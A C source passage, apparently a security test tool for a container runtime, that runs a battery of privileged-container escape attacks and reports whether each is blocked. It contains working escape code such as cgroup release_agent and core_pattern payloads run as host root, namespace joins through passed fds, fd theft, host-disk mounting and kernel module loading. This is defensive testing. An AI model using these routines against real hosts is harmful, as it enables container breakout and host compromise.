// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * escape - the attack tool of the escape battery (tests/security/README.md,
 * tests/vm/60-escapes.bats). Linked statically: it runs in a busybox rootfs.
 *
 *   escape all [--then-sleep]  every attack of the battery, each in its own
 *                              child process (one failing or hanging stops
 *                              no other), one line per attack:
 *                                NAME ok: DETAIL        the attack worked
 *                                NAME blocked: DETAIL   it was refused
 *                              then "END"; --then-sleep keeps the process
 *                              (a container's init) alive afterwards
 *   escape run NAME...         only these attacks
 *   escape list                index and name of every attack
 *
 * Host-side helpers (run by the suite as host root, outside any container):
 *   escape serve SOCK DOCKERDIR TOKEN TARGET
 *        hands out host fds over the unix socket SOCK: a client writes
 *        "mnt", "net", "uts" (the server's namespaces), "pidfd" (a pidfd of
 *        the server) or "dockerdir" (an O_PATH fd of DOCKERDIR) and gets it
 *        back by SCM_RIGHTS. It also plays Docker: DOCKERDIR/docker.sock
 *        answers every connection with "moat-fake-dockerd TOKEN". TARGET is
 *        held open for appending at fd 100 (for pidfd_getfd).
 *   escape key-add DESC DATA   a "user" key in the caller's user keyring
 *   escape key-del DESC        unlink it again
 *
 * Attacks are what a --privileged container does to get out; dangerous ones
 * are permission probes whose arguments fail only after the permission
 * check (kexec with bad fds: EBADF/EINVAL means permitted). Each attack's
 * child sets its comm to "esc-NN" (NN its index), so the kernel policy's
 * denial log names the attack. Settings an attack changes are restored by
 * the attack (core_pattern) or by the suite from the host.
 *
 * The container learns where things are from ESC_* environment variables
 * (see env_or() calls); the suite sets them in the container's spec.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/io.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define OK 0
#define BLOCKED 1
#define DETAIL_LEN 400
#define HELD_FD 100 /* the fd `serve` holds TARGET at */

/* ---- small helpers ------------------------------------------------------ */

static const char *env_or(const char *name, const char *def)
{
	const char *v = getenv(name);

	return v && *v ? v : def;
}

static const char *tag(void) { return env_or("ESC_TAG", "test"); }

static int say(char *d, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static int say(char *d, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(d, DETAIL_LEN, fmt, ap);
	va_end(ap);
	return OK;
}

/* The attack failed at `what`: errno says why. */
static int refused(char *d, const char *what)
{
	snprintf(d, DETAIL_LEN, "%s: %s", what, strerror(errno));
	return BLOCKED;
}

static int write_str(const char *path, int flags, const char *s)
{
	int fd = open(path, flags | O_WRONLY | O_CLOEXEC, 0644), saved;
	ssize_t w;

	if (fd < 0)
		return -1;
	w = write(fd, s, strlen(s));
	saved = errno;
	close(fd);
	errno = saved;
	return w == (ssize_t)strlen(s) ? 0 : -1;
}

static ssize_t read_str(const char *path, char *buf, size_t n)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC), saved;
	ssize_t r;

	if (fd < 0)
		return -1;
	r = read(fd, buf, n - 1);
	saved = errno;
	close(fd);
	errno = saved;
	buf[r > 0 ? r : 0] = '\0';
	if (r > 0 && buf[r - 1] == '\n')
		buf[r - 1] = '\0';
	return r;
}

/* "escaped TAG" into a new file at path (relative to dirfd). */
static int marker_at(int dirfd, const char *path)
{
	char line[64];
	int fd = openat(dirfd, path, O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0644);
	ssize_t w;

	if (fd < 0)
		return -1;
	snprintf(line, sizeof(line), "escaped %s\n", tag());
	w = write(fd, line, strlen(line));
	close(fd);
	return w > 0 ? 0 : -1;
}

/* The host path of a marker file: ESC_HOST_MARKERS/NAME.TAG */
static void host_marker(char *buf, size_t n, const char *name)
{
	snprintf(buf, n, "%s/%s.%s", env_or("ESC_HOST_MARKERS", "/nonexistent"), name, tag());
}

static void hex(char *out, const unsigned char *in, size_t n)
{
	for (size_t i = 0; i < n; i++)
		sprintf(out + 2 * i, "%02x", in[i]);
}

/* Keep a detail on one line. */
static void flatten(char *s)
{
	for (; *s; s++)
		if (*s == '\n' || *s == '\t' || *s == '\r')
			*s = ' ';
		else if (!isprint((unsigned char)*s))
			*s = '?';
}

/* ---- unix sockets and fd passing ---------------------------------------- */

static int unix_connect(const char *path)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), saved;

	if (fd < 0)
		return -1;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		saved = errno;
		close(fd);
		errno = saved;
		return -1;
	}
	return fd;
}

static int unix_listen(const char *path, mode_t mode)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	(void)unlink(path);
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || chmod(path, mode) < 0 ||
	    listen(fd, 16) < 0)
		return -1;
	return fd;
}

static int send_fd(int sock, int fd)
{
	char c = 'x', buf[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { &c, 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = buf,
			      .msg_controllen = sizeof(buf) };
	struct cmsghdr *cm;

	memset(buf, 0, sizeof(buf));
	cm = CMSG_FIRSTHDR(&msg);
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	return sendmsg(sock, &msg, MSG_NOSIGNAL) == 1 ? 0 : -1;
}

/* Ask the host's `escape serve` for an fd. No fd in the reply means the
 * kernel dropped it on receipt (file_receive): reported as EPERM. */
static int request_fd(const char *what)
{
	char c, buf[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { &c, 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = buf,
			      .msg_controllen = sizeof(buf) };
	struct cmsghdr *cm;
	int s = unix_connect(env_or("ESC_SOCK", "/run/esc/escape.sock")), fd;

	if (s < 0)
		return -1;
	memset(buf, 0, sizeof(buf));
	if (write(s, what, strlen(what)) < 0 || shutdown(s, SHUT_WR) < 0 ||
	    recvmsg(s, &msg, MSG_CMSG_CLOEXEC) != 1) {
		close(s);
		return -1;
	}
	close(s);
	cm = CMSG_FIRSTHDR(&msg);
	if (!cm || cm->cmsg_type != SCM_RIGHTS) {
		errno = EPERM;
		return -1;
	}
	memcpy(&fd, CMSG_DATA(cm), sizeof(int));
	return fd;
}

/* connect to a unix socket and read what the (fake) daemon says */
static int talk_to_daemon(const char *path, char *d, const char *how)
{
	char reply[128];
	ssize_t r;
	int s = unix_connect(path);

	if (s < 0)
		return refused(d, "connect");
	r = read(s, reply, sizeof(reply) - 1);
	close(s);
	if (r <= 0)
		return refused(d, "read from the daemon");
	reply[r] = '\0';
	return say(d, "%s: the daemon said '%s'", how, reply);
}

/* ---- the attacks ---------------------------------------------------------- */

static int sys_bpf(int cmd, union bpf_attr *a)
{
	return syscall(SYS_bpf, cmd, a, sizeof(*a));
}

static int a_bpf_map_list(char *d)
{
	union bpf_attr a;
	char names[200] = "";
	unsigned n = 0;
	__u32 id = 0;

	for (;;) {
		struct bpf_map_info info;
		int fd;

		memset(&a, 0, sizeof(a));
		a.start_id = id;
		if (sys_bpf(BPF_MAP_GET_NEXT_ID, &a) < 0)
			break;
		id = a.next_id;
		n++;
		memset(&a, 0, sizeof(a));
		a.map_id = id;
		fd = sys_bpf(BPF_MAP_GET_FD_BY_ID, &a);
		if (fd < 0)
			continue;
		memset(&info, 0, sizeof(info));
		memset(&a, 0, sizeof(a));
		a.info.bpf_fd = fd;
		a.info.info_len = sizeof(info);
		a.info.info = (__u64)(unsigned long)&info;
		if (sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &a) == 0 && strlen(names) + 20 < sizeof(names)) {
			strcat(names, " ");
			strcat(names, info.name);
		}
		close(fd);
	}
	if (n == 0)
		return refused(d, "bpf(BPF_MAP_GET_NEXT_ID)");
	return say(d, "listed and opened %u host BPF maps:%s", n, names);
}

static int a_bpf_prog_load(char *d)
{
	struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr a;
	struct utsname u;
	unsigned maj = 0, min = 0, pat = 0;
	int fd;

	uname(&u);
	sscanf(u.release, "%u.%u.%u", &maj, &min, &pat);
	memset(&a, 0, sizeof(a));
	a.prog_type = BPF_PROG_TYPE_KPROBE;
	a.insns = (__u64)(unsigned long)insns;
	a.insn_cnt = 2;
	a.license = (__u64)(unsigned long)"GPL";
	a.kern_version = (maj << 16) + (min << 8) + (pat > 255 ? 255 : pat);
	fd = sys_bpf(BPF_PROG_LOAD, &a);
	if (fd < 0)
		return refused(d, "bpf(BPF_PROG_LOAD, kprobe)");
	return say(d, "loaded a kprobe program (fd %d): kernel tracing is open", fd);
}

static const char *disk_dev(void) { return env_or("ESC_DISK_DEV", "/dev/vda"); }

static int a_mount_blockdev(char *d)
{
	char path[512];

	mkdir("/tmp/esc-blk", 0700);
	if (mount(disk_dev(), "/tmp/esc-blk", "ext4", 0, NULL) < 0)
		return refused(d, "mount the host's disk");
	snprintf(path, sizeof(path), "/tmp/esc-blk/%s/markers/mount-blockdev.%s",
		 env_or("ESC_DISK_REL", "?"), tag());
	if (marker_at(AT_FDCWD, path) < 0) {
		refused(d, "write through it");
		umount2("/tmp/esc-blk", MNT_DETACH);
		return BLOCKED;
	}
	umount2("/tmp/esc-blk", MNT_DETACH);
	return say(d, "mounted %s (the host's ext4) and wrote a marker on it", disk_dev());
}

/* the ext4 superblock: magic at 1080, UUID at 1128 */
static int read_disk(char *d, int fd, const char *how)
{
	unsigned char magic[2], uuid[16];
	char h[40];

	if (pread(fd, magic, 2, 1080) != 2 || pread(fd, uuid, 16, 1128) != 16) {
		refused(d, "read");
		close(fd);
		return BLOCKED;
	}
	close(fd);
	if (magic[0] != 0x53 || magic[1] != 0xef)
		return say(d, "%s: no ext4 magic", how), BLOCKED;
	hex(h, uuid, 16);
	return say(d, "%s: read the host disk's ext4 superblock, uuid=%s", how, h);
}

static int a_mknod_blockdev(char *d)
{
	unsigned maj, min;
	int fd;

	if (sscanf(env_or("ESC_DISK_MAJMIN", "254:0"), "%u:%u", &maj, &min) != 2)
		return say(d, "bad ESC_DISK_MAJMIN"), BLOCKED;
	unlink("/tmp/esc-disk-node");
	if (mknod("/tmp/esc-disk-node", S_IFBLK | 0600, makedev(maj, min)) < 0)
		return refused(d, "mknod");
	fd = open("/tmp/esc-disk-node", O_RDONLY | O_CLOEXEC);
	unlink("/tmp/esc-disk-node");
	if (fd < 0)
		return refused(d, "open the new node");
	return read_disk(d, fd, "mknod");
}

static int a_blockdev_read(char *d)
{
	int fd = open(disk_dev(), O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return refused(d, "open the host's disk");
	return read_disk(d, fd, disk_dev());
}

static int a_docker_sock_bind(char *d)
{
	return talk_to_daemon("/var/run/docker.sock", d, "bind-mounted /var/run/docker.sock");
}

static int a_docker_config_bind(char *d)
{
	char line[64];

	snprintf(line, sizeof(line), "escaped-%s\n", tag());
	if (write_str("/etc/docker/daemon.json", O_APPEND, line) < 0)
		return refused(d, "append to bind-mounted /etc/docker/daemon.json");
	return say(d, "rewrote the host's Docker daemon.json");
}

static int a_docker_sock_fd(char *d)
{
	char path[64];
	int dir = request_fd("dockerdir");

	if (dir < 0)
		return refused(d, "receive a host directory fd");
	snprintf(path, sizeof(path), "/proc/self/fd/%d/docker.sock", dir);
	return talk_to_daemon(path, d, "through a passed directory fd");
}

static int a_docker_config_fd(char *d)
{
	char buf[200];
	int dir = request_fd("dockerdir"), fd;
	ssize_t r;

	if (dir < 0)
		return refused(d, "receive a host directory fd");
	fd = openat(dir, "etc/daemon.json", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return refused(d, "open etc/daemon.json below it");
	r = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (r < 0)
		return refused(d, "read daemon.json");
	buf[r] = '\0';
	return say(d, "read the host's Docker config: %s", buf);
}

static int remounted_marker(char *d, const char *dir, const char *name, const char *how)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/%s.%s", dir, name, tag());
	if (marker_at(AT_FDCWD, path) < 0)
		return refused(d, "write after the remount");
	return say(d, "%s: wrote into the read-only host bind %s", how, dir);
}

static int a_remount_rw(char *d)
{
	if (mount(NULL, "/hostro-remount", NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		return refused(d, "mount(MS_REMOUNT|MS_BIND) rw");
	return remounted_marker(d, "/hostro-remount", "remount-rw", "mount(2) remount rw");
}

static int a_mount_setattr_rw(char *d)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	if (mount_setattr(AT_FDCWD, "/hostro-setattr", 0, &attr, sizeof(attr)) < 0)
		return refused(d, "mount_setattr(clear MOUNT_ATTR_RDONLY)");
	return remounted_marker(d, "/hostro-setattr", "mount-setattr-rw", "mount_setattr rw");
}

/* A copy of a read-only bind is a new mount: remount the copy read-write. */
static int a_rebind_rw(char *d)
{
	mkdir("/tmp/esc-rebind", 0700);
	if (mount("/hostro-rebind", "/tmp/esc-rebind", NULL, MS_BIND, NULL) < 0)
		return refused(d, "bind the read-only bind elsewhere");
	if (mount(NULL, "/tmp/esc-rebind", NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		return refused(d, "remount the copy rw");
	return remounted_marker(d, "/tmp/esc-rebind", "rebind-rw",
				"bound /hostro-rebind elsewhere, remounted the copy rw");
}

/* The same with the new mount API: a detached clone, attached, remounted rw. */
static int a_open_tree_rw(char *d)
{
	int fd = open_tree(AT_FDCWD, "/hostro-opentree", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	if (fd < 0)
		return refused(d, "open_tree(OPEN_TREE_CLONE)");
	mkdir("/tmp/esc-opentree", 0700);
	if (move_mount(fd, "", AT_FDCWD, "/tmp/esc-opentree", MOVE_MOUNT_F_EMPTY_PATH) < 0)
		return refused(d, "move_mount the clone");
	if (mount(NULL, "/tmp/esc-opentree", NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		return refused(d, "remount the clone rw");
	return remounted_marker(d, "/tmp/esc-opentree", "open-tree-rw",
				"cloned /hostro-opentree with open_tree, remounted the clone rw");
}

static int a_fspick_reconfigure(char *d)
{
	int fd = fspick(AT_FDCWD, "/rosb", FSPICK_CLOEXEC);

	if (fd < 0)
		return refused(d, "fspick");
	if (fsconfig(fd, FSCONFIG_SET_FLAG, "rw", NULL, 0) < 0)
		return refused(d, "fsconfig(rw)");
	if (fsconfig(fd, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0) < 0)
		return refused(d, "fsconfig(FSCONFIG_CMD_RECONFIGURE)");
	return say(d, "reconfigured the host's read-only tmpfs superblock read-write");
}

static int read_secret(char *d, const char *path, const char *how)
{
	char buf[128];

	if (read_str(path, buf, sizeof(buf)) < 0)
		return refused(d, "read the unmasked file");
	return say(d, "%s, read %s: %s", how, path, buf);
}

static int a_umount_mask(char *d)
{
	if (umount2("/hostsecret/private", 0) < 0)
		return refused(d, "umount the mask");
	return read_secret(d, "/hostsecret/private/key", "unmounted the mask");
}

static int a_move_mask(char *d)
{
	mkdir("/tmp/esc-moved", 0700);
	if (move_mount(AT_FDCWD, "/hostsecret2/private", AT_FDCWD, "/tmp/esc-moved", 0) < 0)
		return refused(d, "move_mount the mask away");
	return read_secret(d, "/hostsecret2/private/key", "moved the mask away");
}

/* A non-recursive bind of the masked directory's mount leaves the mask behind. */
static int a_bind_under_mask(char *d)
{
	mkdir("/tmp/esc-unmask", 0700);
	if (mount("/hostsecret3", "/tmp/esc-unmask", NULL, MS_BIND, NULL) < 0)
		return refused(d, "bind /hostsecret3 without its submounts");
	return read_secret(d, "/tmp/esc-unmask/private/key", "bound the masked directory without the mask");
}

/* moat-fs emulates /proc/sys/kernel/core_pattern with a bind mount: take it
 * away and write the kernel's file (under plain runc there is nothing to
 * unmount and the write reaches the kernel). The value is harmless (a file
 * name); the suite puts the host's back. */
static int a_umount_emulated(char *d)
{
	const char *knob = "/proc/sys/kernel/core_pattern";
	char value[64], um[96];
	int e;

	if (umount2(knob, 0) == 0)
		snprintf(um, sizeof(um), "unmounted the emulated %s", knob);
	else
		snprintf(um, sizeof(um), "umount %s: %s", knob, strerror(errno));
	snprintf(value, sizeof(value), "moat-escape-core-%s", tag());
	if (write_str(knob, O_TRUNC, value) < 0) {
		e = errno;
		snprintf(d, DETAIL_LEN, "%s; write core_pattern: %s", um, strerror(e));
		return BLOCKED;
	}
	return say(d, "%s; wrote core_pattern = %s", um, value);
}

static int a_setns_mnt_fd(char *d)
{
	char path[512];
	int fd = request_fd("mnt");

	if (fd < 0)
		return refused(d, "receive the host's mount namespace fd");
	if (setns(fd, CLONE_NEWNS) < 0)
		return refused(d, "setns(mnt)");
	host_marker(path, sizeof(path), "setns-mnt-fd");
	if (marker_at(AT_FDCWD, path) < 0)
		return refused(d, "write in the host's mount namespace");
	return say(d, "joined the host's mount namespace, wrote %s", path);
}

static int a_setns_net_fd(char *d)
{
	const char *knob = "/proc/sys/net/core/somaxconn";
	char buf[32];
	int fd = request_fd("net");

	if (fd < 0)
		return refused(d, "receive the host's network namespace fd");
	if (setns(fd, CLONE_NEWNET) < 0)
		return refused(d, "setns(net)");
	if (read_str(knob, buf, sizeof(buf)) < 0)
		return refused(d, "read somaxconn");
	snprintf(buf, sizeof(buf), "%ld", atol(buf) + 1);
	if (write_str(knob, O_TRUNC, buf) < 0)
		return refused(d, "write somaxconn");
	return say(d, "joined the host's network namespace, set its net.core.somaxconn=%s", buf);
}

static int a_setns_pidfd(char *d)
{
	char name[64];
	int fd = request_fd("pidfd");

	if (fd < 0)
		return refused(d, "receive a pidfd of a host process");
	if (setns(fd, CLONE_NEWUTS) < 0)
		return refused(d, "setns(pidfd, CLONE_NEWUTS)");
	snprintf(name, sizeof(name), "moat-escaped-%s", tag());
	if (sethostname(name, strlen(name)) < 0)
		return refused(d, "sethostname in the host's uts namespace");
	return say(d, "joined the host's uts namespace by pidfd, set the host's hostname to %s", name);
}

static int a_pidfd_getfd(char *d)
{
	char line[64];
	int fd = request_fd("pidfd"), t;

	if (fd < 0)
		return refused(d, "receive a pidfd of a host process");
	t = syscall(SYS_pidfd_getfd, fd, HELD_FD, 0);
	if (t < 0)
		return refused(d, "pidfd_getfd");
	snprintf(line, sizeof(line), "escaped-%s\n", tag());
	if (write(t, line, strlen(line)) < 0)
		return refused(d, "write the stolen fd");
	return say(d, "stole fd %d of a host process and wrote to its file", HELD_FD);
}

/* A payload the host's kernel runs as root: writes the host marker and a
 * "done" file the container can see in its own rootfs. */
static int write_payload(const char *name, char *container_path, char *host_path, size_t n)
{
	char script[1024], marker[512];
	const char *root = env_or("ESC_HOST_ROOTFS", "/nonexistent");

	host_marker(marker, sizeof(marker), name);
	snprintf(container_path, n, "/esc-%s.sh", name);
	snprintf(host_path, n, "%s/esc-%s.sh", root, name);
	snprintf(script, sizeof(script), "#!/bin/sh\necho \"escaped $(id -u)\" > %s\n: > %s/esc-%s.done\n",
		 marker, root, name);
	(void)unlink(container_path);
	if (write_str(container_path, O_CREAT | O_TRUNC, script) < 0 || chmod(container_path, 0755) < 0)
		return -1;
	return 0;
}

static int wait_done(const char *name, int tenths)
{
	char path[128];

	snprintf(path, sizeof(path), "/esc-%s.done", name);
	for (int i = 0; i < tenths; i++) {
		if (access(path, F_OK) == 0) {
			unlink(path);
			return 0;
		}
		usleep(100000);
	}
	return -1;
}

static int a_cgroup_release_agent(char *d)
{
	char cpath[256], hpath[512], opts[64];
	const char *mnt = "/tmp/esc-cgv1";
	pid_t pid;
	int ok;

	if (write_payload("cgroup-release-agent", cpath, hpath, sizeof(cpath)) < 0)
		return refused(d, "write the payload");
	mkdir(mnt, 0700);
	snprintf(opts, sizeof(opts), "none,name=moatesc-%s", tag());
	if (mount("cgroup", mnt, "cgroup", 0, opts) < 0)
		return refused(d, "mount a cgroup v1 hierarchy");
	mkdir("/tmp/esc-cgv1/x", 0755);
	if (write_str("/tmp/esc-cgv1/x/notify_on_release", O_TRUNC, "1") < 0) {
		refused(d, "notify_on_release");
		goto out;
	}
	if (write_str("/tmp/esc-cgv1/release_agent", O_TRUNC, hpath) < 0) {
		refused(d, "write release_agent");
		goto out;
	}
	pid = fork();
	if (pid == 0)
		_exit(write_str("/tmp/esc-cgv1/x/cgroup.procs", O_APPEND, "0") < 0);
	waitpid(pid, NULL, 0);
	ok = wait_done("cgroup-release-agent", 50) == 0;
	if (ok)
		say(d, "the host ran release_agent %s as root", hpath);
	else
		say(d, "release_agent set to %s, but it did not run", hpath);
	/* with a child cgroup left, the hierarchy would outlive its mount */
	if (rmdir("/tmp/esc-cgv1/x") < 0)
		snprintf(d + strlen(d), DETAIL_LEN - strlen(d), " (rmdir: %s)", strerror(errno));
	umount2(mnt, 0);
	return ok ? OK : BLOCKED;
out:
	rmdir("/tmp/esc-cgv1/x");
	umount2(mnt, 0);
	return BLOCKED;
}

static int a_cgroup_host_write(char *d)
{
	char path[256];

	snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/pids.max",
		 env_or("ESC_VICTIM_CG", "moat-esc-victim"));
	if (write_str(path, O_TRUNC, "13") < 0)
		return refused(d, path);
	return say(d, "set pids.max=13 of the host's cgroup %s", path);
}

static int a_cgroup_move_root(char *d)
{
	char before[256], after[256];

	if (read_str("/proc/self/cgroup", before, sizeof(before)) < 0)
		return refused(d, "read /proc/self/cgroup");
	if (write_str("/sys/fs/cgroup/cgroup.procs", O_APPEND, "0") < 0)
		return refused(d, "write /sys/fs/cgroup/cgroup.procs");
	read_str("/proc/self/cgroup", after, sizeof(after));
	if (strcmp(before, after) == 0)
		return say(d, "still in %s (the cgroup namespace's root is the container's)", after),
		       BLOCKED;
	return say(d, "moved itself from %s to the host's root cgroup %s", before, after);
}

static int a_core_pattern(char *d)
{
	const char *knob = "/proc/sys/kernel/core_pattern";
	char old[256], cpath[256], hpath[512], pattern[600];
	pid_t pid;
	int ok;

	if (read_str(knob, old, sizeof(old)) < 0)
		return refused(d, "read core_pattern");
	if (write_payload("core-pattern", cpath, hpath, sizeof(cpath)) < 0)
		return refused(d, "write the payload");
	snprintf(pattern, sizeof(pattern), "|%s", hpath);
	if (write_str(knob, O_TRUNC, pattern) < 0)
		return refused(d, "write core_pattern");
	pid = fork();
	if (pid == 0) {
		struct rlimit rl = { RLIM_INFINITY, RLIM_INFINITY };

		setrlimit(RLIMIT_CORE, &rl);
		prctl(PR_SET_DUMPABLE, 1);
		signal(SIGSEGV, SIG_DFL);
		kill(getpid(), SIGSEGV);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	ok = wait_done("core-pattern", 50) == 0;
	(void)write_str(knob, O_TRUNC, old); /* restore at once */
	if (!ok)
		return say(d, "core_pattern set to %s, but the helper did not run", pattern), BLOCKED;
	return say(d, "set the host's core_pattern to %s; the host ran it as root (restored)", pattern);
}

static int a_sysrq_trigger(char *d)
{
	if (write_str("/proc/sysrq-trigger", 0, "h") < 0)
		return refused(d, "write 'h' to /proc/sysrq-trigger");
	return say(d, "sent sysrq 'h' (help) to the host kernel");
}

static int a_dev_mem(char *d)
{
	unsigned char b[16];
	char h[40];
	int fd = open("/dev/mem", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return refused(d, "open /dev/mem");
	if (pread(fd, b, sizeof(b), 0xF0000) != sizeof(b)) {
		refused(d, "read /dev/mem");
		close(fd);
		return BLOCKED;
	}
	close(fd);
	hex(h, b, sizeof(b));
	return say(d, "read physical memory at 0xf0000: %s", h);
}

static int a_dev_kmsg(char *d)
{
	char line[64];

	snprintf(line, sizeof(line), "moat-escape-kmsg-%s", tag());
	if (write_str("/dev/kmsg", 0, line) < 0)
		return refused(d, "write /dev/kmsg");
	return say(d, "wrote '%s' into the host's kernel log", line);
}

static int a_proc_kcore(char *d)
{
	char b[4];
	int fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return refused(d, "open /proc/kcore");
	if (read(fd, b, 4) != 4 || memcmp(b, "\177ELF", 4) != 0) {
		refused(d, "read /proc/kcore");
		close(fd);
		return BLOCKED;
	}
	close(fd);
	return say(d, "read the ELF header of the kernel's memory image");
}

static int a_syslog_read(char *d)
{
	int n = klogctl(10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0), r;
	char *buf, *p, tok[80];

	if (n < 0)
		return refused(d, "syslog(SIZE_BUFFER)");
	buf = malloc(n + 1);
	if (!buf)
		return refused(d, "malloc");
	r = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buf, n);
	if (r < 0)
		return refused(d, "syslog(READ_ALL)");
	buf[r] = '\0';
	p = strstr(buf, "moat-escape-syslog-");
	if (!p)
		return say(d, "read %d bytes of the kernel log, no host token in it", r), BLOCKED;
	snprintf(tok, sizeof(tok), "%.60s", p);
	tok[strcspn(tok, "\n ")] = '\0';
	return say(d, "read the host's kernel log (%d bytes), found %s", r, tok);
}

static int a_finit_module(char *d)
{
	char path[256];
	int fd;

	snprintf(path, sizeof(path), "%s/dummy.ko", env_or("ESC_MODDIR", "/modules"));
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return refused(d, path);
	if (syscall(SYS_finit_module, fd, "", 0) < 0)
		return refused(d, "finit_module(dummy.ko)");
	return say(d, "loaded dummy.ko into the host kernel");
}

static int a_init_module(char *d)
{
	char path[256];
	struct stat st;
	char *img;
	int fd;

	snprintf(path, sizeof(path), "%s/nlmon.ko", env_or("ESC_MODDIR", "/modules"));
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0)
		return refused(d, path);
	img = malloc(st.st_size);
	if (!img || read(fd, img, st.st_size) != st.st_size)
		return refused(d, "read nlmon.ko");
	if (syscall(SYS_init_module, img, (unsigned long)st.st_size, "") < 0)
		return refused(d, "init_module(nlmon.ko)");
	return say(d, "loaded nlmon.ko into the host kernel");
}

/* Is module `name` loaded (the kernel's /proc/modules, the same everywhere)? */
static int module_loaded(const char *name)
{
	char line[256], want[64];
	FILE *f = fopen("/proc/modules", "re");
	int found = 0;

	if (!f)
		return 0;
	snprintf(want, sizeof(want), "%s ", name);
	while (!found && fgets(line, sizeof(line), f))
		found = strncmp(line, want, strlen(want)) == 0;
	fclose(f);
	return found;
}

static int a_module_autoload_fs(char *d)
{
	int r, e;

	mkdir("/tmp/esc-qnx4", 0700);
	r = mount("none", "/tmp/esc-qnx4", "qnx4", 0, NULL);
	e = errno;
	if (r == 0)
		umount2("/tmp/esc-qnx4", MNT_DETACH);
	errno = e;
	if (!module_loaded("qnx4"))
		return refused(d, "mount -t qnx4 loaded no module");
	return say(d, "mount -t qnx4 made the host kernel load qnx4.ko (the mount then: %s)",
		   r == 0 ? "worked" : strerror(e));
}

static int a_module_autoload_net(char *d)
{
	int s = socket(AF_APPLETALK, SOCK_DGRAM | SOCK_CLOEXEC, 0), e = errno;

	if (s >= 0)
		close(s);
	errno = e;
	if (!module_loaded("appletalk"))
		return refused(d, "socket(AF_APPLETALK) loaded no module");
	return say(d, "socket(AF_APPLETALK) made the host kernel load appletalk.ko (the socket "
		      "then: %s)", s >= 0 ? "created" : strerror(e));
}

static int a_kexec_file_load(char *d)
{
	if (syscall(SYS_kexec_file_load, -1, -1, 0UL, "", 0UL) == 0)
		return say(d, "kexec_file_load succeeded?!");
	if (errno == EBADF)
		return say(d, "permitted: EBADF (bad fds) after the CAP_SYS_BOOT check");
	return refused(d, "kexec_file_load");
}

static int a_kexec_load(char *d)
{
	if (syscall(SYS_kexec_load, 0UL, 1000UL, NULL, 0UL) == 0)
		return say(d, "kexec_load succeeded?!");
	if (errno == EINVAL)
		return say(d, "permitted: EINVAL (1000 segments) after the CAP_SYS_BOOT check");
	return refused(d, "kexec_load");
}

static int a_open_by_handle(char *d)
{
	struct file_handle *fh = malloc(sizeof(*fh) + 8);
	uint32_t ino_gen[2] = { 2, 0 }; /* ext4's root directory */
	char path[512];
	int mnt, root;

	if (!fh)
		return refused(d, "malloc");
	fh->handle_bytes = 8;
	fh->handle_type = 1; /* FILEID_INO32_GEN */
	memcpy(fh->f_handle, ino_gen, 8);
	mnt = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	root = open_by_handle_at(mnt, fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (root < 0)
		return refused(d, "open_by_handle_at(root inode)");
	snprintf(path, sizeof(path), "%s/markers/open-by-handle.%s", env_or("ESC_DISK_REL", "?"), tag());
	if (marker_at(root, path) < 0)
		return refused(d, "write below the filesystem's root");
	return say(d, "opened the host filesystem's root by handle, wrote %s", path);
}

static int a_keyctl_host_key(char *d)
{
	const char *desc = env_or("ESC_KEY_DESC", "moat-escape-key");
	char buf[128];
	long id, n;

